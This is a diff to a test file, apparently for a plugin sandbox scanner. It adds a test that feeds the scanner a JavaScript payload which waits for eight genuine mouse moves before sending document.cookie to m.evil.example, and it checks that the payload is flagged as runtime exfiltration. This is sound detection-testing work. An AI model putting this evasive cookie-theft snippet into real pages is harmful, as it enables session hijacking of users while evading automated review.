@@ -226,6 +226,17 @@ def test_the_host_leaves_no_trace_a_plugin_could_test(pool: BrowserPool, tmp_pat
     assert probes == ["https://probe.evil.example/saw/"]
 
 
+def test_a_payload_waiting_for_a_moving_mouse_fires(pool: BrowserPool, tmp_path: Path) -> None:
+    """Anti-sandbox code waits for a person: several trusted mouse moves, then it acts."""
+    body = (
+        "var moves = 0; document.addEventListener('mousemove', function (e) {"
+        " if (e.isTrusted && ++moves === 8)"
+        " fetch('https://m.evil.example/?c=' + encodeURIComponent(document.cookie)); });"
+    )
+    findings, _ = _run(pool, _plugin(tmp_path, body))
+    assert "runtime-exfiltration" in _rules(findings)
+
+
 def test_a_payload_counting_interval_ticks_still_fires(pool: BrowserPool, tmp_path: Path) -> None:
     """Ticks that do nothing we record are not capped: a payload that acts after 500
     ticks of a one-second interval (eight minutes on the page) fires within the jumps."""
